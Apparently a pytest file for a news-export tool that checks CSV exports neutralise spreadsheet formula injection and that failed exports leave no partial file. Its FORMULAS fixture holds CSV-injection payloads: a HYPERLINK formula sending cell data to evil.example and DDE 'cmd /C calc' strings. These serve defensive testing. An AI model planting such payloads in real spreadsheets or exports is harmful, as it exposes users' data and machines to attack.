"""Exports are safe to open in a spreadsheet, and a full disk leaves no partial file behind."""

from __future__ import annotations

import csv
import json
import resource
import signal
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import edited, fixture_article

from wardnews.research.export import spreadsheet_safe
from wardnews.store import Store

WARDNEWS = str(Path(sys.executable).with_name("wardnews"))
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")',
    "sapo": "+cmd|' /C calc'!A0",
    "byline": "@SUM(1+1)*cmd|' /C calc'!A0",
    "category": "-2+3+cmd|' /C calc'!A0",
    "source": "\t=1+1",
    "published_at_raw": "\r=1+1",
}


@pytest.fixture
def hostile_db(tmp_path) -> Path:
    seed = fixture_article("laodongthudo/seed_tay_tuu")
    db = tmp_path / "w.db"
    with Store(db) as store:
        store.save_articles([edited(seed, **FORMULAS)])
    return db


def export(db, *args, **kwargs):
    return subprocess.run(
        [WARDNEWS, "export", "--db", str(db), *args], capture_output=True, text=True, **kwargs
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_db, tmp_path):
    out = tmp_path / "a.csv"
    done = export(hostile_db, "--format", "csv", "--out", str(out))
    assert done.returncode == 0, done.stderr
    with out.open(encoding="utf-8", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert row["url"].startswith("https://") and row["word_count"].isdigit()  # ordinary cells as they were
    jsonl = export(hostile_db, "--format", "jsonl")
    record = json.loads(jsonl.stdout)
    assert {c: record[c] for c in FORMULAS} == FORMULAS  # JSONL keeps the stored text


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("Phường Tây Tựu", "Phường Tây Tựu"), ("a=1", "a=1"), ("", ""), (None, None), (-3, -3), (2.5, 2.5)],
)  # fmt: skip
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_export_to_a_full_disk_says_so_and_leaves_the_device_alone(hostile_db):
    done = export(hostile_db, "--format", "csv", "--out", "/dev/full")
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1 and "is full (No space left on device)" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    assert stat.S_ISCHR(Path("/dev/full").stat().st_mode)  # a device is never "removed"


def _limit_file_size():
    # Writes past 4 KiB fail with EFBIG (what a full quota looks like), instead of killing the process.
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))


def test_a_failed_export_removes_its_partial_file(hostile_db, tmp_path):
    out = tmp_path / "big.csv"
    out.write_text("an older export\n")
    keep_shm = sqlite3.connect(hostile_db)  # the reader's shared-memory file exists already
    try:
        keep_shm.execute("SELECT count(*) FROM articles").fetchone()
        done = export(hostile_db, "--format", "csv", "--out", str(out), preexec_fn=_limit_file_size)
    finally:
        keep_shm.close()
    assert done.returncode == 1, done.stderr
    assert done.stderr.count("\n") == 1 and "the partial" in done.stderr and "was removed" in done.stderr
    assert not out.exists()
